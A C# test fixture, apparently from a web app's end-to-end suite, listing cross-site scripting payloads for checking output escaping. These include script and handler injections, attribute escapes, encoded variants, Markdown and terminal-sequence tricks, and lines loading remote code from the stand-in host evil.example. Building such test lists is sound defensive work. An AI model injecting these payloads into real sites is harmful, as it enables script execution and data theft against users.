namespace Parley.EndToEnd.Tests.Pages;

/// <summary>
/// Texts that run script where somebody forgets to escape: elements, handlers, ways out of attributes, comments and raw text, addresses, encodings that
/// a parser might undo twice, Markdown and terminal sequences. Each calls <c>alert</c>, asks another host for something, or changes the page.
/// </summary>
internal static class Payloads
{
    private static readonly string[] Elements =
    [
        "<script>alert(1)</script>", "<script src=https://evil.example/x.js></script>", "<script type=module>alert(1)</script>", "<script>alert(1)//", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1)></script>", "<math><mtext><script>alert(1)</script>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=https://evil.example></iframe>", "<object data=javascript:alert(1)></object>", "<object data=https://evil.example/x.swf></object>", "<embed src=javascript:alert(1)>",
        "<embed src=https://evil.example/x>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=import href=https://evil.example/x>", "<style>@import 'https://evil.example/x.css';</style>", "<style>body{display:none}</style>",
        "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=https://evil.example><input type=submit></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>", "<frameset onload=alert(1)>", "<portal src=https://evil.example>", "<dialog open>x</dialog>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<audio src=https://evil.example/a onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x</details>", "<isindex action=javascript:alert(1) type=image>",
    ];

    private static readonly string[] Handlers =
    [
        "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>", "<img/src=x/onerror=alert(1)>", "<img src=https://evil.example/x.png>", "<img srcset=https://evil.example/x.png>", "<IMG SRC=x ONERROR=alert(1)>",
        "<img src=x onerror=&#97;lert(1)>", "<img \0 src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><use href=data:image/svg+xml,x#x></svg>", "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>", "<svg><set onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<div style=background:url(https://evil.example)>",
        "<div style='position:fixed;inset:0'>", "<p style=animation-name:appear onanimationstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href=java&#x09;script:alert(1)>x</a>", "<a ping=https://evil.example href=#>x</a>",
        "<input autofocus onfocus=alert(1)>", "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x", "<x contenteditable onblur=alert(1)>x", "<b onmouseover=alert(1)>x</b>", "<div id=entries>", "<div id=main>", "<img name=getElementById>", "<form id=search>",
    ];

    private static readonly string[] WaysOut =
    [
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)", "\" autofocus onfocus=\"alert(1)\" x=\"", "' autofocus onfocus='alert(1)' x='", "` onerror=alert(1) `",
        "\" style=\"background:url(https://evil.example)\" x=\"", "\"/><svg/onload=alert(1)>", "--><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</article><script>alert(1)</script>", "</code></pre><script>alert(1)</script>", "</summary></details><img src=x onerror=alert(1)>",
        "</dd></dl><img src=x onerror=alert(1)>", "</a><a href=javascript:alert(1)>x</a>", "</p></div></main><script>alert(1)</script>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!doctype html><script>alert(1)</script>", "%><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}", "@{alert(1)}", "@(alert(1))", "<%= alert(1) %>", "<base>/images/1/0\" onerror=\"alert(1)", "<base>\"><img src=x onerror=alert(1)>", "<!--entries--><script>alert(1)</script>",
    ];

    private static readonly string[] Encodings =
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<scr\0ipt>alert(1)</script>", "<\u2028script>alert(1)</script>", "\ufeff<script>alert(1)</script>",
        "<img src=x onerror\u00a0=alert(1)>", "<\u202escript>alert(1)</script>", "\u0000<script>alert(1)</script>", "\u001b<script>alert(1)</script>", "<img src=x\u000conerror=alert(1)>",
    ];

    private static readonly string[] MarkdownLinks =
    [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](java\tscript:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))", "[x](vbscript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](//evil.example)", "[x](https://a.example/\"onmouseover=\"alert(1))", "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")", "[x][r]\n\n[r]: javascript:alert(1) \"t\"",
        "<javascript:alert(1)>", "<https://a.example/\"onmouseover=alert(1)>", "![x](javascript:alert(1))", "![x](https://evil.example/t.png)", "![x\" onerror=\"alert(1)](https://evil.example/t.png)", "![<img src=x onerror=alert(1)>](x)", "[![x](https://evil.example/t.png)](javascript:alert(1))",
        "[<img src=x onerror=alert(1)>](https://a.example)", "`<script>alert(1)</script>`", "```<script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```", "```js\" onclick=\"alert(1)\nx\n```", "~~~\n</code></pre><script>alert(1)</script>\n~~~", "    <script>alert(1)</script>",
        "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |", "# <script>alert(1)</script>", "> <img src=x onerror=alert(1)>", "- <svg onload=alert(1)>", "**<b onmouseover=alert(1)>x</b>**", "<details><summary>x</summary><script>alert(1)</script></details>", "<a href=\"\njavascript:alert(1)\">x</a>",
        "https://a.example/<script>alert(1)</script>", "https://a.example/'onmouseover='alert(1)", "mailto:x@a.example?subject=<script>alert(1)</script>", "x@\"onmouseover=alert(1).example",
    ];

    private static readonly string[] Sequences =
    [
        "\e[31m<script>alert(1)</script>\e[0m", "\e]8;;javascript:alert(1)\e\\x\e]8;;\e\\", "\e]0;<script>alert(1)</script>\a", "\e[38;5;1\"onclick=alert(1)mx", "\e[<img src=x onerror=alert(1)>m", "\e]52;c;PHNjcmlwdD4=\a<img src=x onerror=alert(1)>", "[REDACTED:<script>alert(1)</script>]",
        "[truncated: <img src=x onerror=alert(1)> bytes removed]", "<command-name>/x</command-name><command-args><script>alert(1)</script></command-args>", "<bash-stdout>&lt;script&gt;alert(1)&lt;/script&gt;</bash-stdout>", "<local-command-stdout><img src=x onerror=alert(1)></local-command-stdout>",
        "<system-reminder><script>alert(1)</script></system-reminder>", "<tool_use_error><script>alert(1)</script></tool_use_error>", "API Error: <script>alert(1)</script>", "     1\t<script>alert(1)</script>\n     2\tx", "{\"a\":\"<script>alert(1)</script>\"}",
    ];

    internal static IReadOnlyList<string> All { get; } = [.. Elements, .. Handlers, .. WaysOut, .. Encodings, .. MarkdownLinks, .. Sequences];
}
